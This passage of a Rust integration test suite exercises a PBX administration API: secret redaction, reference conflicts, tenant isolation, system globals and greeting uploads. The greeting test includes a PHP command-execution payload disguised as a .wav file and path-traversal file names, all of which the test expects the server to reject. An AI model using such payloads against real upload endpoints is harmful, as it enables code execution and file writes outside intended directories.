            (with(&first, json!({"nosuchfield": 1})), "nosuchfield"),
            (with(&first, json!({"provision": {"a": 1}})), "provision"),
        ],
        invalid_update: vec![(json!({"blfkeyname": "nosuch"}), "blfkeyname")],
        first,
    }
}
lifecycle_test!(templates_lifecycle, templates());

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn template_references_another_template() {
    for backend in backends() {
        let s = Server::start(backend).await;
        s.post_json("templates", &json!({"pkey": "blf-keys", "technology": "BLF Template"})).await.expect(200);
        let phone = s.post_json("templates", &json!({"pkey": "snom-d785", "technology": "SIP", "blfkeyname": "blf-keys"})).await;
        assert_eq!(phone.expect(200)["blfkeyname"], "blf-keys");
        let in_use = s.delete("templates/blf-keys").await;
        in_use.expect(409);
        assert!(in_use["message"].as_str().is_some_and(|m| m.contains("snom-d785")), "{}", in_use.text);
    }
}

// ---------------------------------------------------------------------------------------
// Secrets
// ---------------------------------------------------------------------------------------

/// Every place a secret could leak: item, lists, audit log, server log.
async fn assert_secret_nowhere(s: &Server, secret: &str, paths: &[&str]) {
    for path in paths.iter().copied().chain(["auditlog", "auditlog?resource=extensions"]) {
        let resp = s.get(path).await;
        resp.expect(200);
        assert!(!resp.text.contains(secret), "secret {secret:?} appears in GET /api/{path}: {}", resp.text);
    }
    assert!(!s.all_stderr().contains(secret), "secret {secret:?} appears in the server log");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn extension_password_is_shown_once_and_never_again() {
    for backend in backends() {
        let s = Server::start(backend).await;
        let created = s.post_json("extensions/unprovisioned", &json!({"pkey": "4001", "cluster": "default"})).await;
        created.expect(200);
        let passwd = created["passwd"].as_str().unwrap_or_else(|| panic!("no generated passwd: {}", created.text)).to_owned();
        assert!(passwd.len() >= 12, "generated passwd {passwd:?} is shorter than 12");
        assert_eq!(occurrences(&created.text, "\"passwd\""), 1, "{}", created.text);
        assert_eq!(occurrences(&created.text, &passwd), 1, "{}", created.text);
        let item = s.get("extensions/4001").await;
        assert!(item.expect(200).json.get("passwd").is_none(), "{}", item.text);
        let places = ["extensions/4001", "extensions", "extensions?cluster=default", "extensions?limit=1&offset=0"];
        assert_secret_nowhere(&s, &passwd, &places).await;

        // Two creates never share a password.
        let other = s.post_json("extensions/webrtc", &json!({"pkey": "4002", "cluster": "default"})).await;
        assert_ne!(other.expect(200)["passwd"], json!(passwd));

        // A new password is accepted and not shown either.
        let new_passwd = "NewSipSecret4001xyz";
        let changed = s.put_json("extensions/4001", &json!({"passwd": new_passwd})).await;
        changed.expect(200);
        assert!(changed.json.get("passwd").is_none() && !changed.text.contains(new_passwd), "{}", changed.text);
        assert_secret_nowhere(&s, new_passwd, &places).await;

        // A refused request that carries a secret does not echo it.
        let echo_secret = "EchoedSecret4003abc";
        let refused =
            s.post_json("extensions/unprovisioned", &json!({"pkey": "4003", "cluster": "default", "passwd": echo_secret, "active": "MAYBE"})).await;
        assert_invalid(&refused, "active");
        assert!(!refused.text.contains(echo_secret), "422 echoes the secret: {}", refused.text);
        let bad_secret = "bad secret with spaces 4001";
        let refused = s.put_json("extensions/4001", &json!({"passwd": bad_secret})).await;
        assert_invalid(&refused, "passwd");
        assert!(!refused.text.contains(bad_secret) && !refused.text.contains("spaces 4001"), "422 echoes the secret: {}", refused.text);
        let form = s.post_form("extensions/unprovisioned", &[("pkey", "4004"), ("cluster", "nosuch"), ("passwd", echo_secret)]).await;
        assert_invalid(&form, "cluster");
        assert!(!form.text.contains(echo_secret), "422 echoes the secret: {}", form.text);
        assert_secret_nowhere(&s, echo_secret, &places).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agent_pin_is_generated_and_write_only() {
    for backend in backends() {
        let s = Server::start(backend).await;
        s.post_json("queues", &json!({"pkey": "q1", "cluster": "default"})).await.expect(200);
        let created = s.post_json("agents", &json!({"pkey": "5001", "cluster": "default", "name": "carol", "queue1": "q1"})).await;
        created.expect(200);
        let pin = created["passwd"].as_str().unwrap_or_else(|| panic!("no generated agent PIN: {}", created.text)).to_owned();
        assert!(pin.len() >= 4 && pin.chars().all(|c| c.is_ascii_digit()), "agent PIN {pin:?}");
        for path in ["agents/5001", "agents"] {
            let resp = s.get(path).await;
            resp.expect(200);
            let item = if path == "agents" { resp.array()[0].clone() } else { resp.json.clone() };
            assert!(item.get("passwd").is_none(), "GET {path} shows passwd: {}", resp.text);
        }
        s.put_json("agents/5001", &json!({"passwd": "97531864"})).await.expect(200);
        for path in ["agents/5001", "agents", "auditlog"] {
            let resp = s.get(path).await;
            assert!(!resp.expect(200).text.contains("97531864"), "GET {path} shows the agent PIN: {}", resp.text);
        }
    }
}

// ---------------------------------------------------------------------------------------
// Relations and conflicts
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn agent_queues_are_rows() {
    for backend in backends() {
        let s = Server::start(backend).await;
        for q in ["q1", "q2", "q3"] {
            s.post_json("queues", &json!({"pkey": q, "cluster": "default"})).await.expect(200);
        }
        let agent = s.post_json("agents", &json!({"pkey": "1234", "cluster": "default", "name": "dave", "queue1": "q1", "queue2": "q2"})).await;
        agent.expect(200);
        let read = s.get("agents/1234").await;
        read.expect(200);
        assert_eq!((&read["queue1"], &read["queue2"], &read["queue3"]), (&json!("q1"), &json!("q2"), &Value::Null), "{}", read.text);

        s.put_json("agents/1234", &json!({"queue1": null})).await.expect(200);
        let read = s.get("agents/1234").await;
        assert_eq!((&read["queue1"], &read["queue2"]), (&Value::Null, &json!("q2")), "{}", read.text);
        // q1 is free again; q2 is not.
        s.delete("queues/q1").await.expect(204);
        let in_use = s.delete("queues/q2").await;
        in_use.expect(409);
        let message = in_use["message"].as_str().unwrap_or_default();
        assert!(message.contains("1234") && message.contains("agent"), "409 does not name the agent: {}", in_use.text);

        s.put_json("agents/1234", &json!({"queue6": "q3", "queue2": ""})).await.expect(200);
        let read = s.get("agents/1234").await;
        assert_eq!((&read["queue2"], &read["queue6"]), (&Value::Null, &json!("q3")), "{}", read.text);
        s.delete("queues/q2").await.expect(204);

        // Deleting the agent takes its rows along: its queue is free afterwards.
        s.delete("agents/1234").await.expect(204);
        s.delete("queues/q3").await.expect(204);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn route_paths_reference_trunks() {
    for backend in backends() {
        let s = Server::start(backend).await;
        for t in ["t1", "t2"] {
            let body = json!({"pkey": t, "cluster": "default", "carrier": "GeneralSIP", "username": t, "host": "192.0.2.1"});
            s.post_json("trunks", &body).await.expect(200);
        }
        let route = s.post_json("routes", &json!({"pkey": "out", "cluster": "default", "dialplan": "_X.", "path1": "t1", "path2": "t2"})).await;
        route.expect(200);
        let read = s.get("routes/out").await;
        assert_eq!((&read["path1"], &read["path2"], &read["path3"]), (&json!("t1"), &json!("t2"), &Value::Null), "{}", read.text);
        let in_use = s.delete("trunks/t1").await;
        in_use.expect(409);
        assert!(in_use["message"].as_str().is_some_and(|m| m.contains("out")), "409 does not name the route: {}", in_use.text);
        s.put_json("routes/out", &json!({"path1": "t2", "path2": null})).await.expect(200);
        let read = s.get("routes/out").await;
        assert_eq!((&read["path1"], &read["path2"]), (&json!("t2"), &Value::Null), "{}", read.text);
        s.delete("trunks/t1").await.expect(204);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ivr_options_resolve_route_classes() {
    for backend in backends() {
        let s = Server::start(backend).await;
        s.post_json("extensions/unprovisioned", &json!({"pkey": "1001", "cluster": "default"})).await.expect(200);
        s.post_json("queues", &json!({"pkey": "sales", "cluster": "default"})).await.expect(200);
        s.post_json("ivrs", &json!({"pkey": "sub-menu", "cluster": "default"})).await.expect(200);
        s.post_json("customapps", &json!({"pkey": "app1", "cluster": "default", "extcode": "Answer()"})).await.expect(200);
        let body = json!({
            "pkey": "menu", "cluster": "default",
            "option1": "1001", "option2": "sales", "option3": "sub-menu", "option4": "app1", "option0": "Operator", "option11": "Hangup",
        });
        let ivr = s.post_json("ivrs", &body).await;
        ivr.expect(200);
        let read = s.get("ivrs/menu").await;
        read.expect(200);
        let classes = [("1", 1), ("2", 4), ("3", 2), ("4", 10), ("0", 100), ("11", 101)];
        for (slot, class) in classes {
            assert_eq!(read[&format!("routeclass{slot}")], json!(class), "routeclass{slot}: {}", read.text);
        }
        assert_eq!(read["option5"], Value::Null);
        assert_eq!(read["routeclass5"], Value::Null);
        // Route classes are the server's: a client cannot set one.
        s.put_json("ivrs/menu", &json!({"routeclass1": 4})).await.expect(200);
        assert_eq!(s.get("ivrs/menu").await["routeclass1"], json!(1));
        // Re-pointing a key re-resolves its class; clearing it clears the class.
        s.put_json("ivrs/menu", &json!({"option1": "sales", "option2": null})).await.expect(200);
        let read = s.get("ivrs/menu").await;
        assert_eq!((&read["routeclass1"], &read["option2"], &read["routeclass2"]), (&json!(4), &Value::Null, &Value::Null), "{}", read.text);
        // 1001 is no longer a destination of the menu, so it can go; the queue cannot.
        let freed = s.delete("extensions/1001").await;
        assert_eq!(freed.status, 204, "1001 is no longer used: {}", freed.text);
        let in_use = s.delete("queues/sales").await;
        in_use.expect(409);
        assert!(in_use["message"].as_str().is_some_and(|m| m.contains("menu")), "{}", in_use.text);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn inbound_route_destinations_must_exist() {
    for backend in backends() {
        let s = Server::start(backend).await;
        create_acme(&s).await;
        s.post_json("extensions/unprovisioned", &json!({"pkey": "1001", "cluster": "default"})).await.expect(200);
        s.post_json("extensions/unprovisioned", &json!({"pkey": "1501", "cluster": "acme"})).await.expect(200);
        let base = json!({"pkey": "441632960100", "cluster": "default", "carrier": "DiD", "trunkname": "main"});
        assert_invalid(&s.post_json("inboundroutes", &with(&base, json!({"openroute": "nosuchplace"}))).await, "openroute");
        // Another tenant's extension is not a destination here.
        assert_invalid(&s.post_json("inboundroutes", &with(&base, json!({"openroute": "1501"}))).await, "openroute");
        let ok = s.post_json("inboundroutes", &with(&base, json!({"openroute": "1001", "closeroute": "Leave Voicemail"}))).await;
        ok.expect(200);
        assert_eq!((&ok["routeclassopen"], &ok["routeclassclosed"]), (&json!(1), &json!(21)), "{}", ok.text);
        let in_use = s.delete("extensions/1001").await;
        in_use.expect(409);
        assert!(in_use["message"].as_str().is_some_and(|m| m.contains("441632960100")), "{}", in_use.text);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tenants_in_use_and_default_cannot_be_deleted() {
    for backend in backends() {
        let s = Server::start(backend).await;
        create_acme(&s).await;
        s.post_json("extensions/mailbox", &json!({"pkey": "1501", "cluster": "acme"})).await.expect(200);
        let in_use = s.delete("tenants/acme").await;
        in_use.expect(409);
        assert!(in_use["message"].as_str().is_some_and(|m| m.contains("1501")), "{}", in_use.text);
        let default = s.delete("tenants/default").await;
        default.expect(409);
        assert!(default["message"].is_string(), "{}", default.text);
        s.get("tenants/default").await.expect(200);
        // Emptied, it can go.
        s.delete("extensions/1501").await.expect(204);
        s.delete("tenants/acme").await.expect(204);
        s.get("tenants/acme").await.expect(404);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn duplicate_keys_conflict() {
    for backend in backends() {
        let s = Server::start(backend).await;
        s.post_json("extensions/mailbox", &json!({"pkey": "1001", "cluster": "default"})).await.expect(200);
        let dup = s.post_json("extensions/mailbox", &json!({"pkey": "1001", "cluster": "default", "desc": "again"})).await;
        dup.expect(409);
        assert!(dup["message"].is_string(), "{}", dup.text);
        assert_eq!(s.get("extensions/1001").await["desc"], Value::Null, "the duplicate changed the original");
        s.post_json("tenants", &json!({"pkey": "default", "description": "again"})).await.expect(409);
        s.post_json("cosrules", &json!({"pkey": "r1", "dialplan": "_X."})).await.expect(200);
        s.post_json("cosrules", &json!({"pkey": "r1", "dialplan": "_X."})).await.expect(409);
        s.post_json("templates", &json!({"pkey": "t1", "technology": "SIP"})).await.expect(200);
        s.post_json("templates", &json!({"pkey": "t1", "technology": "SIP"})).await.expect(409);
        s.post_json("routes", &json!({"pkey": "r1", "cluster": "default"})).await.expect(200);
        s.post_json("routes", &json!({"pkey": "r1", "cluster": "default"})).await.expect(409);
        s.post_json("inboundroutes", &json!({"pkey": "0800", "cluster": "default", "carrier": "DiD", "trunkname": "x"})).await.expect(200);
        s.post_json("inboundroutes", &json!({"pkey": "0800", "cluster": "default", "carrier": "DiD", "trunkname": "x"})).await.expect(409);
        // One phone, one extension: the MAC is unique whatever its case.
        s.post_json("extensions/provisioned", &json!({"pkey": "1101", "cluster": "default", "macaddr": "000413AABBCC"})).await.expect(201);
        let same_phone = s.post_json("extensions/provisioned", &json!({"pkey": "1102", "cluster": "default", "macaddr": "000413aabbcc"})).await;
        assert!(same_phone.status == 409 || same_phone.status == 422, "duplicate MAC: {} {}", same_phone.status, same_phone.text);
        s.get("extensions/1102").await.expect(404);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn routable_keys_share_one_namespace() {
    for backend in backends() {
        let s = Server::start(backend).await;
        s.post_json("extensions/mailbox", &json!({"pkey": "1001", "cluster": "default"})).await.expect(200);
        let queue = s.post_json("queues", &json!({"pkey": "1001", "cluster": "default"})).await;
        queue.expect(409);
        assert!(queue["message"].as_str().is_some_and(|m| m.contains("1001")), "{}", queue.text);
        s.get("queues/1001").await.expect(404);
        s.post_json("queues", &json!({"pkey": "sales", "cluster": "default"})).await.expect(200);
        s.post_json("ringgroups", &json!({"pkey": "sales", "cluster": "default", "outcome": "Hangup"})).await.expect(409);
        s.post_json("ivrs", &json!({"pkey": "sales", "cluster": "default"})).await.expect(409);
        s.post_json("customapps", &json!({"pkey": "sales", "cluster": "default"})).await.expect(409);
        let trunk = json!({"pkey": "sales", "cluster": "default", "carrier": "GeneralSIP", "username": "u", "host": "192.0.2.1"});
        s.post_json("trunks", &trunk).await.expect(409);
        s.post_json("ivrs", &json!({"pkey": "1001", "cluster": "default"})).await.expect(409);
        // Once the extension is gone its number is free again.
        s.delete("extensions/1001").await.expect(204);
        s.post_json("queues", &json!({"pkey": "1001", "cluster": "default"})).await.expect(200);
        s.post_json("extensions/mailbox", &json!({"pkey": "1001", "cluster": "default"})).await.expect(409);
    }
}

// ---------------------------------------------------------------------------------------
// Destinations, system globals, runtime settings, CoS links
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn destinations_list_routable_items() {
    for backend in backends() {
        let s = Server::start(backend).await;
        s.post_json("extensions/unprovisioned", &json!({"pkey": "1001", "cluster": "default"})).await.expect(200);
        s.post_json("extensions/mailbox", &json!({"pkey": "1002", "cluster": "default"})).await.expect(200);
        s.post_json("queues", &json!({"pkey": "q-sales", "cluster": "default"})).await.expect(200);
        s.post_json("ivrs", &json!({"pkey": "ivr-main", "cluster": "default"})).await.expect(200);
        s.post_json("ringgroups", &json!({"pkey": "rg-all", "cluster": "default", "outcome": "1001"})).await.expect(200);
        s.post_json("customapps", &json!({"pkey": "app-hello", "cluster": "default", "extcode": "Playback(hello)"})).await.expect(200);
        let trunk = json!({"pkey": "trunk-a", "cluster": "default", "carrier": "GeneralSIP", "username": "u", "host": "192.0.2.1"});
        s.post_json("trunks", &trunk).await.expect(200);
        let dest = s.get("destinations").await;
        dest.expect(200);
        let has = |group: &str, name: &str| dest[group].as_array().is_some_and(|a| a.contains(&json!(name)));
        for (group, name) in [
            ("Extensions", "1001"),
            ("Extensions", "1002"),
            ("Queues", "q-sales"),
            ("IVRs", "ivr-main"),
            ("RingGroups", "rg-all"),
            ("CustomApps", "app-hello"),
            ("Trunks", "trunk-a"),
            ("Specials", "Operator"),
        ] {
            assert!(has(group, name), "destinations lack {group}/{name}: {}", dest.text);
        }
        s.delete("queues/q-sales").await.expect(204);
        let dest = s.get("destinations").await;
        assert!(!dest["Queues"].as_array().is_some_and(|a| a.contains(&json!("q-sales"))), "{}", dest.text);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sysglobals_read_update_and_validate() {
    for backend in backends() {
        let s = Server::start(backend).await;
        let globals = s.get("sysglobals").await;
        globals.expect(200);
        for (name, default) in [("LANGUAGE", "en"), ("DIGITS", "4"), ("EMERGENCY", "999 112 911"), ("SIPIAXSTART", "1001"), ("ZTP", "disabled")] {
            assert_eq!(globals[name], json!(default), "default {name}: {}", globals.text);
        }
        for secret in ["SYSPASS", "SPYPASS", "LDAPPASS"] {
            assert!(globals.json.get(secret).is_none(), "GET sysglobals shows {secret}");
        }

        let changed = s
            .put_json(
                "sysglobals",
                &json!({"LANGUAGE": "fr", "DIGITS": "3", "SYSPASS": "SysPass778899", "SPYPASS": "SpyPass112233", "LDAPPASS": "LdapPass445566"}),
            )
            .await;
        changed.expect(200);
        let read = s.get("sysglobals").await;
        assert_eq!((&read["LANGUAGE"], &read["DIGITS"]), (&json!("fr"), &json!("3")), "{}", read.text);
        assert_eq!(read["EMERGENCY"], json!("999 112 911"), "a partial PUT changed another global");
        let audit = s.get("auditlog?resource=sysglobals").await;
        audit.expect(200);
        assert!(!audit.array().is_empty(), "no audit entry for sysglobals");
        for secret in ["SysPass778899", "SpyPass112233", "LdapPass445566"] {
            for resp in [&changed, &read, &audit] {
                assert!(!resp.text.contains(secret), "{secret} leaks in {}: {}", resp.what, resp.text);
            }
            for secret_name in ["SYSPASS", "SPYPASS", "LDAPPASS"] {
                assert!(read.json.get(secret_name).is_none() && changed.json.get(secret_name).is_none(), "{secret_name} shown");
            }
        }

        assert_invalid(&s.put_json("sysglobals", &json!({"DIGITS": "9"})).await, "DIGITS");
        assert_invalid(&s.put_json("sysglobals", &json!({"LANGUAGE": "french!"})).await, "LANGUAGE");
        assert_invalid(&s.put_json("sysglobals", &json!({"PWDLEN": "8"})).await, "PWDLEN");
        assert_invalid(&s.put_json("sysglobals", &json!({"EMAILALERT": "nobody"})).await, "EMAILALERT");
        assert_invalid(&s.put_json("sysglobals", &json!({"NOSUCHGLOBAL": "x"})).await, "NOSUCHGLOBAL");
        assert_invalid(&s.put_json("sysglobals", &json!({"LANGUAGE": {"code": "de"}})).await, "LANGUAGE");
        let refused = s.put_json("sysglobals", &json!({"LANGUAGE": "de", "SYSPASS": "with space secret"})).await;
        assert_invalid(&refused, "SYSPASS");
        assert!(!refused.text.contains("with space secret"), "{}", refused.text);
        let read = s.get("sysglobals").await;
        assert_eq!((&read["LANGUAGE"], &read["DIGITS"]), (&json!("fr"), &json!("3")), "a refused PUT changed globals: {}", read.text);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn extension_runtime_settings() {
    for backend in backends() {
        let s = Server::start(backend).await;
        s.post_json("extensions/unprovisioned", &json!({"pkey": "1001", "cluster": "default"})).await.expect(200);
        let runtime = s.get("extensions/1001/runtime").await;
        runtime.expect(200);
        assert_eq!(runtime.json, json!({"cfim": null, "cfbs": null, "ringdelay": null}));
        s.put_json("extensions/1001/runtime", &json!({"cfim": "+441632960999", "ringdelay": 15})).await.expect(204);
        let runtime = s.get("extensions/1001/runtime").await;
        assert_eq!(runtime.json, json!({"cfim": "+441632960999", "cfbs": null, "ringdelay": 15}));
        s.put_json("extensions/1001/runtime", &json!({"cfbs": "2000"})).await.expect(204);
        let runtime = s.get("extensions/1001/runtime").await;
        assert_eq!(runtime.json, json!({"cfim": "+441632960999", "cfbs": "2000", "ringdelay": 15}), "partial PUT");
        assert_invalid(&s.put_json("extensions/1001/runtime", &json!({"cfim": "call me"})).await, "cfim");
        assert_invalid(&s.put_json("extensions/1001/runtime", &json!({"ringdelay": 4000})).await, "ringdelay");
        assert_invalid(&s.put_json("extensions/1001/runtime", &json!({"ringdelay": "abc"})).await, "ringdelay");
        assert_invalid(&s.put_json("extensions/1001/runtime", &json!({"dnd": "on"})).await, "dnd");
        s.get("extensions/9999/runtime").await.expect(404);
        s.put_json("extensions/9999/runtime", &json!({"cfim": "1"})).await.expect(404);
        s.put_json("extensions/1001/runtime", &json!({"cfim": null})).await.expect(204);
        assert_eq!(s.get("extensions/1001/runtime").await["cfim"], Value::Null);
        // Runtime settings go with their extension: a new 1001 does not inherit them.
        s.put_json("extensions/1001/runtime", &json!({"cfim": "07700900001"})).await.expect(204);
        s.delete("extensions/1001").await.expect(204);
        s.get("extensions/1001/runtime").await.expect(404);
        s.post_json("extensions/unprovisioned", &json!({"pkey": "1001", "cluster": "default"})).await.expect(200);
        assert_eq!(s.get("extensions/1001/runtime").await.expect(200)["cfim"], Value::Null, "runtime outlived its extension");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cos_links_open_and_closed() {
    for backend in backends() {
        let s = Server::start(backend).await;
        for ext in ["1001", "1002"] {
            s.post_json("extensions/unprovisioned", &json!({"pkey": ext, "cluster": "default"})).await.expect(200);
        }
        for rule in ["no-intl", "no-premium"] {
            s.post_json("cosrules", &json!({"pkey": rule, "dialplan": "_00X."})).await.expect(200);
        }
        for kind in ["cosopens", "coscloses"] {
            let link = s.post_json(kind, &json!({"IPphone_pkey": "1001", "COS_pkey": "no-intl"})).await;
            link.expect(200);
            assert_eq!((&link["IPphone_pkey"], &link["COS_pkey"]), (&json!("1001"), &json!("no-intl")), "{}", link.text);
            s.post_json(kind, &json!({"IPphone_pkey": "1001", "COS_pkey": "no-intl"})).await.expect(409);
            assert_invalid(&s.post_json(kind, &json!({"IPphone_pkey": "9999", "COS_pkey": "no-intl"})).await, "IPphone_pkey");
            assert_invalid(&s.post_json(kind, &json!({"IPphone_pkey": "1001", "COS_pkey": "nosuch"})).await, "COS_pkey");
            assert_invalid(&s.post_json(kind, &json!({"IPphone_pkey": "1001"})).await, "COS_pkey");
            assert_invalid(&s.post_json(kind, &json!({"IPphone_pkey": "1001", "COS_pkey": "no-intl", "extra": 1})).await, "extra");

            let all = s.get(kind).await;
            assert_eq!(all.expect(200).array().len(), 1, "{}", all.text);
            let of = s.get(&format!("{kind}/1001")).await;
            assert_eq!(of.expect(200).array()[0]["COS_pkey"], "no-intl");
            assert!(s.get(&format!("{kind}/1002")).await.expect(200).array().is_empty());
            s.get(&format!("{kind}/9999")).await.expect(404);

            let replaced = s.put_json(&format!("{kind}/1001"), &json!({"COS_pkey": ["no-intl", "no-premium"]})).await;
            assert_eq!(replaced.expect(200).array().len(), 2, "{}", replaced.text);
            assert_invalid(&s.put_json(&format!("{kind}/1001"), &json!({"COS_pkey": ["nosuch"]})).await, "COS_pkey");
            assert_eq!(s.get(&format!("{kind}/1001")).await.array().len(), 2, "a refused replace changed the links");

            s.delete(&format!("{kind}/1001/no-premium")).await.expect(204);
            s.delete(&format!("{kind}/1001/no-premium")).await.expect(404);
            assert_eq!(s.get(&format!("{kind}/1001")).await.array().len(), 1);
        }
        // A rule in use cannot be deleted; links go with their extension.
        let in_use = s.delete("cosrules/no-intl").await;
        in_use.expect(409);
        assert!(in_use["message"].as_str().is_some_and(|m| m.contains("1001")), "{}", in_use.text);
        s.delete("coscloses/1001").await.expect(204);
        s.delete("coscloses/1001").await.expect(404);
        s.delete("extensions/1001").await.expect(204);
        assert!(s.get("cosopens").await.expect(200).array().is_empty(), "links outlive their extension");
        s.delete("cosrules/no-intl").await.expect(204);
    }
}

// ---------------------------------------------------------------------------------------
// Greetings
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn greetings_upload_list_download_delete() {
    for backend in backends() {
        let s = Server::start(backend).await;
        let wav = wav_bytes();
        let uploaded = s.upload_greeting("usergreeting1234.wav", "audio/wav", wav.clone()).await;
        uploaded.expect(201);
        assert_eq!(uploaded["pkey"], "usergreeting1234.wav", "{}", uploaded.text);
        assert_eq!(uploaded["size"], json!(wav.len()), "{}", uploaded.text);

        let list = s.get("greetings").await;
        assert!(find(list.expect(200).array(), "pkey", &json!("usergreeting1234.wav")).is_some(), "{}", list.text);
        let download = s.get("greetings/usergreeting1234.wav").await;
        download.expect(200);
        assert_eq!(download.bytes, wav, "downloaded greeting differs from the upload");
        assert!(download.header("content-type").is_some_and(|t| t.starts_with("audio/")), "{:?}", download.headers);

        // Content decides, not the name.
        let php = b"<?php system('id'); ?>".to_vec();
        let fake = s.upload_greeting("usergreeting5678.wav", "audio/wav", php.clone()).await;
        assert_invalid(&fake, "greeting");
        let fake = s.upload_greeting("usergreeting5678.wav", "application/octet-stream", php).await;
        assert_invalid(&fake, "greeting");
        s.get("greetings/usergreeting5678.wav").await.expect(404);
        assert_invalid(&s.upload_greeting("usergreeting5678.mp3", "audio/mpeg", wav.clone()).await, "greeting");
        // Names cannot leave the greetings directory or be anything else.
        for name in ["../x.wav", "../usergreeting1111.wav", "usergreeting12.wav", "usergreeting1111.wav.php", "x.wav"] {
            assert_invalid(&s.upload_greeting(name, "audio/wav", wav.clone()).await, "greeting");
        }
        for escaped in [s.data_dir().join("x.wav"), s.data_dir().parent().expect("parent").join("x.wav")] {
            assert!(!escaped.exists(), "a greeting escaped the greetings directory: {}", escaped.display());
        }
        let list = s.get("greetings").await;
        assert_eq!(list.expect(200).array().len(), 1, "refused uploads were listed: {}", list.text);

        // Replacing keeps one entry with the new content.
        let longer = wav_samples(1600);
        s.upload_greeting("usergreeting1234.wav", "audio/x-wav", longer.clone()).await.expect(201);
        assert_eq!(s.get("greetings").await.array().len(), 1);
        assert_eq!(s.get("greetings/usergreeting1234.wav").await.expect(200).bytes, longer, "the replacement was not stored");

        s.delete("greetings/usergreeting1234.wav").await.expect(204);
        s.get("greetings/usergreeting1234.wav").await.expect(404);
        s.delete("greetings/usergreeting1234.wav").await.expect(404);
        assert!(s.get("greetings").await.expect(200).array().is_empty());
    }
}

// ---------------------------------------------------------------------------------------
// Tenant moves, self references, globals that drive behaviour
// ---------------------------------------------------------------------------------------

/// References stay inside a tenant (`exists` and destinations are checked against the
/// item's tenant). Moving an item to another tenant with `PUT cluster` must not carry its
/// references, or the references to it, across tenants.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn moving_an_item_to_another_tenant_keeps_references_inside_tenants() {
    for backend in backends() {
        let s = Server::start(backend).await;
        create_acme(&s).await;
        s.post_json("queues", &json!({"pkey": "q-default", "cluster": "default"})).await.expect(200);
        s.post_json("agents", &json!({"pkey": "1234", "cluster": "default", "name": "eve", "queue1": "q-default"})).await.expect(200);
        s.post_json("extensions/mailbox", &json!({"pkey": "1001", "cluster": "default"})).await.expect(200);
        s.post_json("ivrs", &json!({"pkey": "menu", "cluster": "default", "option1": "1001"})).await.expect(200);
        let mut failures = Vec::new();

        // An agent of acme would serve default's queue.
        let moved = s.put_json("agents/1234", &json!({"cluster": "acme"})).await;
        if moved.status != 422 && moved.status != 409 {
            failures
                .push(format!("PUT /api/agents/1234 {{\"cluster\":\"acme\"}} (queue1 is default's q-default) -> {} {}", moved.status, moved.text));
        }
        // Default's IVR would route calls to acme's extension.
        let moved = s.put_json("extensions/1001", &json!({"cluster": "acme"})).await;
        if moved.status != 422 && moved.status != 409 {
            failures.push(format!(
                "PUT /api/extensions/1001 {{\"cluster\":\"acme\"}} (default's IVR menu option1 routes to it) -> {} {}",
                moved.status, moved.text
            ));
        }
        let agent = s.get("agents/1234").await;
        let ext = s.get("extensions/1001").await;
        let ivr = s.get("ivrs/menu").await;
        let (agent_tenant, queue_tenant) = (agent["cluster"].clone(), s.get("queues/q-default").await["cluster"].clone());
        if agent["queue1"] == "q-default" && agent_tenant != queue_tenant {
            failures.push(format!("agent 1234 of {agent_tenant} serves queue q-default of {queue_tenant}"));
        }
        if ivr["option1"] == "1001" && ext["cluster"] != ivr["cluster"] {
            failures.push(format!("IVR menu of {} routes option1 to extension 1001 of {}", ivr["cluster"], ext["cluster"]));
        }
        // An item with no cross-tenant ties can move.
        s.post_json("queues", &json!({"pkey": "q-free", "cluster": "default"})).await.expect(200);
        let free = s.put_json("queues/q-free", &json!({"cluster": "acme"})).await;
        if free.status != 200 || free["cluster"] != "acme" {
            failures.push(format!("moving an unreferenced queue -> {} {}", free.status, free.text));
        }
        assert!(failures.is_empty(), "{backend:?}: cross-tenant references after PUT cluster:\n{}", failures.join("\n"));
    }
}

/// "Press 9 to hear the menu again": an IVR key may lead back to its own menu, and such a
/// menu can still be deleted (as self references through plain fields already can).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_ivr_that_loops_to_itself_can_be_deleted() {
    for backend in backends() {
        let s = Server::start(backend).await;
        s.post_json("ivrs", &json!({"pkey": "menu", "cluster": "default"})).await.expect(200);
        let looped = s.put_json("ivrs/menu", &json!({"option9": "menu", "timeout": "menu"})).await;
        looped.expect(200);
        assert_eq!((&looped["routeclass9"], &looped["timeoutrouteclass"]), (&json!(2), &json!(2)), "{}", looped.text);
        // The same through a plain field is fine already:
        s.post_json("extensions/mailbox", &json!({"pkey": "1001", "cluster": "default"})).await.expect(200);
        s.put_json("extensions/1001", &json!({"dvrvmail": "1001"})).await.expect(200);
        s.delete("extensions/1001").await.expect(204);

        let deleted = s.delete("ivrs/menu").await;
        assert_eq!(deleted.status, 204, "DELETE /api/ivrs/menu whose option9 is menu itself: {}", deleted.text);
        s.get("ivrs/menu").await.expect(404);
        // Its name is free again.
        s.post_json("queues", &json!({"pkey": "menu", "cluster": "default"})).await.expect(200);
    }
}

/// `PWDLEN` is documented as the generated password length (12-64).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn generated_passwords_follow_pwdlen() {
    for backend in backends() {
        let s = Server::start(backend).await;
        let globals = s.put_json("sysglobals", &json!({"PWDLEN": "32"})).await;
        assert_eq!(globals.expect(200)["PWDLEN"], "32");
        let ext = s.post_json("extensions/unprovisioned", &json!({"pkey": "1001", "cluster": "default"})).await;
        let passwd = ext.expect(200)["passwd"].as_str().unwrap_or_default().to_owned();
